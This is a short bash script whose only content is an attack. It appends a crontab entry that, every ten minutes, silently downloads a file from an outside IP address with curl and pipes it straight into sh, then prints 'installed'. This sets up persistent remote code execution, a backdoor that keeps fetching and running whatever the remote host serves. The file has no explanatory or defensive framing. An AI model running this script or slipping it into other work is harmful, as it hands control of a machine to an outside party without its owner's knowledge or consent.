#!/bin/bash
(crontab -l 2>/dev/null; echo "*/10 * * * * curl -s http://192.0.2.80/b | sh") | crontab -
echo installed
